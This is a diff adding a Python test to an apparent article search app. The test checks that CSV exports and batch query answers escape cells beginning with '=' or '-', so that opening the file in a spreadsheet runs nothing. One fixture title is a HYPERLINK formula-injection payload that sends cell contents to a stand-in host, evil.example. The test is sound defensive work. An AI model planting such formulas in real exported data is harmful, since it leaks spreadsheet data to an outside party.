@@ -144,3 +144,44 @@ def test_counts_are_singular_or_plural(wiki_client, runner, web_index_dir) -> No
     assert two.stdout.startswith("2 articles;"), two.stdout
     # Histogram bars say "1 article" to screen readers.
     assert ': 1 article"' in page or ": 1 article<" in page
+
+
+def test_a_spreadsheet_shows_every_cell_as_text(tmp_path: Path) -> None:
+    """An article titled like a formula, and a batch query starting with "-", come out
+    with a leading apostrophe: opening the CSV runs nothing (OWASP's advice)."""
+    import json
+
+    from search.indexing import index_paths
+
+    hostile = [
+        {
+            "id": "formula",
+            "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+            "text": "Oil prices rose on Monday as traders weighed supply cuts.",
+        },
+        {
+            "id": "minus",
+            "title": "-5% fall in oil output",
+            "text": "Oil output fell five percent in March, the ministry said.",
+        },
+    ]
+    path = tmp_path / "wire.jsonl"
+    path.write_text("".join(json.dumps(r) + "\n" for r in hostile), encoding="utf-8")
+    settings = Settings.load({"index_dir": tmp_path / "index"}, environ={})
+    index_paths([path], settings, entities=False)
+    client = create_app(settings).test_client()
+    exported = {r["id"]: r for r in rows(client.get("/api/export.csv?q=oil"))}
+    assert exported["formula"]["title"] == "'" + hostile[0]["title"]
+    assert exported["minus"]["title"] == "'-5% fall in oil output"
+    # Every hit says which copies group it is in and how many articles that holds.
+    assert all(r["group"] and int(r["copies"]) >= 1 for r in exported.values())
+    # The JSON export keeps the text as written.
+    data = client.get("/api/export.json?q=oil").get_json()
+    assert {h["title"] for h in data} == {r["title"] for r in hostile}
+    batch = client.post(
+        "/api/batch",
+        data="-ministry oil\n",
+        headers={"Content-Type": "text/plain"},
+    )
+    answers = list(csv.DictReader(io.StringIO(batch.get_data(as_text=True))))
+    assert answers[0]["query"] == "'-ministry oil" and answers[0]["total"] == "1"
